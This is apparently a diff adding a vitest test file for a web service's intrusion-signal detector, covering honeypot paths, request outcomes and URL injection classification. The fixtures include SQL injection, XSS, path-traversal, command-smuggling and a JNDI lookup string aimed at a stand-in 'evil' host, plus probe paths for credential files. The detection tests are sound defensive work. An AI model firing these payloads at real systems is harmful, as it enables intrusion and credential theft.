@@ -1,0 +1,143 @@
+import { describe, expect, it } from 'vitest';
+import { injectionIn, isHoneypot, signsOf, type AnsweredRequest } from './signs.ts';
+
+const ordinary: AnsweredRequest = {
+  url: '/api/transports',
+  status: 200,
+  code: null,
+  isUnknownPath: false,
+  hasCredential: true,
+  isUpload: false,
+  body: undefined,
+};
+const typesOf = (request: Partial<AnsweredRequest>) => signsOf({ ...ordinary, ...request }).map(({ type }) => type);
+
+describe('honeypots', () => {
+  it.each([
+    '/.env',
+    '/.ENV.production',
+    '/%2eenv',
+    '//.git/config',
+    '/api/.env',
+    '/wp-login.php',
+    '/wp-admin/setup-config.php',
+    '/xmlrpc.php',
+    '/phpmyadmin/index.php',
+    '/cgi-bin/luci',
+    '/actuator/env',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/.aws/credentials',
+    '/backup.sql',
+    '/db-dump.tar.gz',
+    '/shell.php',
+    '/default.aspx',
+  ])('%s is one', (path) => {
+    expect(isHoneypot(path)).toBe(true);
+  });
+
+  it.each([
+    '/',
+    '/pricing',
+    '/.well-known/security.txt',
+    '/api/transports',
+    '/transports/phpmyadmin',
+    '/environment',
+    '/wp',
+    '/apple-touch-icon.png',
+  ])('%s is none', (path) => {
+    expect(isHoneypot(path)).toBe(false);
+  });
+});
+
+describe('injection patterns', () => {
+  it.each([
+    ['/api/transports?q=1%27%20OR%20%271%27=%271', 'sql'],
+    ['/api/marketplace/quotes?q=x%27%20or%201=1--', 'sql'],
+    ['/api/x?id=1+UNION+ALL+SELECT+password+FROM+users', 'sql'],
+    ['/api/x?id=1/**/union/**/select/**/1', 'sql'],
+    ["/api/x?id=1';drop%20table%20users", 'sql'],
+    ["/api/x?id=1;select+pg_sleep('5')", 'sql'],
+    ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'script'],
+    ['/?q=%253Cscript%253Ealert(1)', 'script'],
+    ['/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'script'],
+    ['/..%2f..%2fetc/passwd', 'traversal'],
+    ['/%2e%2e/%2e%2e/etc/passwd', 'traversal'],
+    ['/?file=....//etc/passwd', 'traversal'],
+    ['/?x=$%7Bjndi:ldap://evil/a%7D', 'template'],
+    ['/?host=a;cat%20/etc/hosts', 'command'],
+    ['/?page=php://filter/read', 'wrapper'],
+    ['/.%00./etc', 'nul'],
+  ])('%s is %s', (url, kind) => {
+    expect(injectionIn(url)).toBe(kind);
+  });
+
+  it.each([
+    '/api/transports?limit=20&cursor=01a1f91a-3d39-7c52-97db-c90a04b9179f',
+    '/api/marketplace/quotes?q=O%27Brien%20and%20Sons',
+    '/api/marketplace/quotes?q=Western%20Union%20Street',
+    '/api/marketplace/quotes?q=please%20select%20a%20truck%20from%20Ohio',
+    '/api/places/vehicles?type=car&q=%25_%25',
+    '/verify-email?token=AbC-_0123456789',
+    '/quote?value=$25,000;note=5%22%20lift',
+    '/%',
+    '/%zz',
+  ])('%s is none', (url) => {
+    expect(injectionIn(url)).toBeNull();
+  });
+});
+
+it('takes no long look at a long text', () => {
+  const texts = ['union/**/', '<script ', "' ", "' or ", '; update x ', '../', '${ ', '%2527', 'union ', ' '].map((part) =>
+    part.repeat(3000),
+  );
+  const startedAt = performance.now();
+  for (const text of texts) injectionIn(`'${text}`);
+  expect(performance.now() - startedAt).toBeLessThan(1000);
+});
+
+describe('signs of an answered request', () => {
+  it.each<[Partial<AnsweredRequest>, string[]]>([
+    [{}, []],
+    [{ status: 500, code: 'internal' }, []],
+    [{ status: 401, code: 'invalid_credentials' }, ['failed_login']],
+    [{ status: 401, code: 'second_factor_required', body: { email: 'a', password: 'b' } }, []],
+    [{ status: 401, code: 'second_factor_required', body: { email: 'a', password: 'b', code: '000000' } }, ['failed_login']],
+    [{ status: 403, code: 'blocked' }, ['blocked_login']],
+    [{ status: 403, code: 'inactive' }, []],
+    [{ status: 403, code: 'forbidden' }, ['forbidden']],
+    [{ status: 403, code: 'foreign_origin' }, ['forbidden']],
+    [{ status: 403, code: 'email_unverified' }, []],
+    [{ status: 409, code: 'already_accepted' }, []],
+    [{ status: 422, code: 'invalid' }, []],
+    [{ status: 422, code: 'invalid', isUpload: true }, ['rejected_upload']],
+    [{ status: 415, code: 'file_type', isUpload: true }, ['rejected_upload']],
+    [{ status: 413, code: 'too_large', isUpload: true }, ['rejected_upload']],
+    [{ status: 413, code: 'too_large' }, []],
+    [{ status: 404, code: 'not_found', isUpload: true }, []],
+    [{ status: 429, code: 'rate_limited' }, ['rate_limit']],
+    [{ status: 429, code: 'too_many_streams' }, []],
+    [{ status: 401, code: 'unauthenticated' }, ['bad_token']],
+    [{ status: 401, code: 'unauthenticated', hasCredential: false }, []],
+    [{ status: 422, code: 'link_invalid' }, ['bad_token']],
+    [{ status: 422, code: 'honeypot_field' }, ['honeypot_field']],
+    [{ status: 400, code: 'bad_signature' }, ['bad_signature']],
+    [{ status: 404, url: '/.env', isUnknownPath: true }, ['honeypot_path']],
+    [{ status: 200, url: '/.env', isUnknownPath: false }, []],
+    [{ status: 404, url: '/nothing', isUnknownPath: true }, []],
+    [{ status: 404, url: '/..%2f..%2f.env', isUnknownPath: true }, ['injection']],
+    [{ status: 404, url: '/wp-login.php?x=1%27%20or%20%271%27=%271', isUnknownPath: true }, ['injection', 'honeypot_path']],
+  ])('%o gives %j', (request, types) => {
+    expect(typesOf(request)).toEqual(types);
+  });
+
+  it('looks into the body of a refused request, and never into what was accepted', () => {
+    const body = { email: `admin" or "1"="1`, note: 'a' };
+    expect(typesOf({ status: 422, code: 'invalid', body })).toEqual(['injection']);
+    expect(typesOf({ status: 401, code: 'invalid_credentials', body: { email: "x' or 1=1" } })).toEqual(['injection', 'failed_login']);
+    expect(typesOf({ status: 201, body })).toEqual([]);
+    expect(typesOf({ status: 422, code: 'invalid', body: { notes: "The key's under the mat, and it's a '67" } })).toEqual([]);
+    const loop: Record<string, unknown> = {};
+    loop['self'] = loop;
+    expect(typesOf({ status: 422, code: 'invalid', body: loop })).toEqual([]);
+  });
+});
